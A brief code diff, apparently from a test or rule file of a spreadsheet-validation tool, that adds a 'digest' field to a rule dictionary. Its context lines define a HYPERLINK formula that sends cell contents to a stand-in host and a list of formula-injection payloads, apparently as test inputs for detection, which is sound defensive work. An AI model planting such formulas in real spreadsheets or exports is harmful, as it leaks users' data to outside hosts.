@@ -27,6 +27,7 @@ RULE = {
     "what_to_do": "请核对",
     "scope": "column",
     "sources": ("A",),
+    "digest": "0",
 }
 FORMULA = '=HYPERLINK("http://x.example/?"&A1)'
 HOSTILE = (FORMULA, "+1+1", "-2+3", "@SUM(A1)", "＝1+1", "\t=1", "\r=1")
